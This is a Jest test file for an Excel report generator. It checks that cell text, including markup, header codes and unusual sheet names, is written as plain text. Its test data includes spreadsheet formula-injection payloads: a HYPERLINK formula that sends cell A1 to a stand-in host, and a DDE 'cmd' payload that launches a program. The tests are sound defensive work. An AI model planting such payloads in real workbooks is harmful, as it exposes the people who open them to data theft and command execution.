/** What stands in a cell stays text, wherever it goes: one test for each thing that it must not become. */
import { createSession } from '../../src/excel/create-session';
import { DEFAULT_SETTINGS, type Settings } from '../../src/settings/types';
import type { BookSheet } from '../../src/workbench/book/types';
import { MEASURES, TITLES, type WorkbookParts } from '../report/support/workbook';
import { officersSheets, openFilled } from '../excel/support/open';
import type { RunningExcel } from '../support/office';

jest.setTimeout(60_000);

let excel: RunningExcel;
afterEach(async () => {
  await new Promise((resolve) => setTimeout(resolve, 30));
  excel.close();
});

/** The report of a workbook with these parts, as it stands on the sheet. */
async function reportOf(parts: WorkbookParts, changes: Partial<Settings> = {}): Promise<BookSheet> {
  excel = await openFilled(officersSheets(parts));
  const outcome = await createSession().generateReport({ draft: true, settings: { ...DEFAULT_SETTINGS, digits: 'arabic', ...changes } });
  if (outcome.status !== 'written')
    throw new Error(JSON.stringify(outcome.status === 'failed' ? outcome.failure : outcome.prepared.findings));
  const sheet = excel.book.sheets.find((one) => one.name === outcome.sheet);
  if (sheet === undefined) throw new Error('The report was not written.');
  return sheet;
}

const measureWith = (text: string): WorkbookParts => {
  const [first = [], ...others] = MEASURES;
  return { measures: [[...first.slice(0, 5), text], ...others] };
};

const cellsOf = (sheet: BookSheet) => [...sheet.cells.values()];

test.each(['=HYPERLINK("http://example.invalid/?"&A1,"คลิก")', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1'])(
  'a formula: %s',
  async (text) => {
    const sheet = await reportOf(measureWith(`${text} ผลเป็นไปตามเป้าหมาย`));
    const core = text.trim().replace(/^[-+=@]/, '');
    const holding = cellsOf(sheet).filter(({ value }) => String(value).includes(core));
    expect(holding.length).toBeGreaterThan(0);
    expect(holding.filter(({ formula }) => formula !== null)).toEqual([]);
    expect(cellsOf(sheet).filter(({ formula }) => formula?.includes('example') === true || formula?.includes('cmd') === true)).toEqual([]);
  },
);

test('markup: tags are taken out, and what is left is text', async () => {
  const sheet = await reportOf(measureWith('ผลสำเร็จ<br/>ระดับดี <b>มาก</b>'));
  expect(cellsOf(sheet).filter(({ value }) => /<br|<b>/.test(String(value)))).toEqual([]);
  expect(cellsOf(sheet).some(({ value }) => String(value).includes('ระดับดี'))).toBe(true);
});

test('a header code: an ampersand in the agency’s name is doubled', async () => {
  const { page } = await reportOf({}, { agency: 'เทศบาลตำบลทุ่งแสง&Fธรรม' });
  expect(page.footer.left).toContain('ทุ่งแสง&&Fธรรม');
  expect(page.footer.left.replace(/&&/g, '')).not.toMatch(/&[FDTAZG]/);
});

test('a sheet’s name: the report is called by its year alone, whatever the titles say', async () => {
  const titles = [["รายงาน [x]:*?/\\'"], ...TITLES];
  const sheet = await reportOf({ titles });
  expect(sheet.name).toBe('รายงาน ITA 2568');
});

test('part of a reference: a sheet’s name with quotes and brackets of its own is quoted in links', async () => {
  const sheets = officersSheets(measureWith(''));
  const name = "O'Brien & (1)!";
  excel = await openFilled(Object.fromEntries(Object.entries(sheets).map(([key, rows]) => [key === 'มาตรการ' ? name : key, rows])));
  const outcome = await createSession().writeFindingsSheet();
  expect(outcome.status).toBe('checked');
  const findings = excel.book.sheets[excel.book.sheets.length - 1];
  const links = cellsOf(findings as BookSheet).flatMap(({ formula, hyperlink }) => {
    const target = hyperlink?.documentReference ?? formula;
    return target?.includes('Brien') === true ? [target] : [];
  });
  expect(links.length).toBeGreaterThan(0);
  for (const link of links) expect(link).toContain("'O''Brien & (1)!'!");
});
